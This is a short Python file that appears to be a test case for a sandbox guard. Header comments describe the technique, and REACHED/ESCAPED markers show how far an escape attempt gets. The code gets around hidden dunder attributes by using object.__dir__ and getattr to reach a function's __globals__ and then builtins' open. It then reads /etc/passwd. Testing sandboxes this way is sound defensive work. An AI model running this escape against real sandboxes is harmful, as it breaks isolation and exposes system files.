# tries: object.__dir__ lists what the guard would hide, then getattr
# class: reader
# stops: 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def dig(space):
    print("REACHED")
    builtins = space["__builtins__"]
    return builtins["open"] if type(builtins) is dict else getattr(builtins, "open")


import json

names = object.__dir__(json.JSONEncoder.default)
print("REACHED" if "__code__" in names and "__globals__" in names and hasattr(
    json.JSONEncoder.default, [n for n in names if n.startswith("__glob")][0]) else "")
use(dig(getattr(json.JSONEncoder.default, [n for n in names if n.startswith("__glob")][0])))
